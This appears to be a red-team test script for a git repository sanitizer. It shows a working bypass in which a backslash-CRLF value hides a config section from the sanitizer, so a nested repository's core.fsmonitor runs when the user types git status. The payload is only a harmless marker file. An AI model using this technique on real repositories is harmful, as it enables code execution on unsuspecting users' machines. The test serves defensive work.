#!/usr/bin/env bash
# red team 49: the sweep's config reader and git's disagree on where a
# value ends. Git turns "\r\n" into "\n" before it looks at a value, so a
# value ending in a backslash and a CRLF line end goes on to the next
# line; the sweep's reader (broker/run/git-defuse.c, value_continues())
# sees the backslash escape the "\r" and ends the value there. The
# command makes a nested repository `vendor`, adds it as a gitlink (what
# the sweep follows), and writes in its config:
#     [core]
#         x = y\<CR><LF>
#     [other]
#         fsmonitor = "touch MARK; false"
# The sweep reads a section [other] and other.fsmonitor, which it leaves
# alone; git reads core.x = "y[other]" and core.fsmonitor. The user's
# plain `git status` at the top enters the gitlink and runs it. (Any key
# of the table is hidden so: core.worktree, core.hooksPath, aliases.)
# usage: 49-config-crlf.sh /path/to/sluice   (as root or a user)
NAME=config-crlf
HOLE="a value ending in a backslash and CRLF hides a section header from the sweep; vendor's core.fsmonitor stayed and the user's git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1"; }
attack() {
  cat <<EOA
G='env PATH=/usr/bin:/bin git' &&
\$G init -q vendor && echo v >vendor/v && \$G -C vendor add v && \$G -C vendor commit -qm v &&
\$G add vendor 2>/dev/null &&
printf '[core]\\n\\tx = y\\\\\\r\\n[other]\\n\\tfsmonitor = "touch $1; false"\\n' >>vendor/.git/config
EOA
}
trigger() { user_status "$1"; }
finish
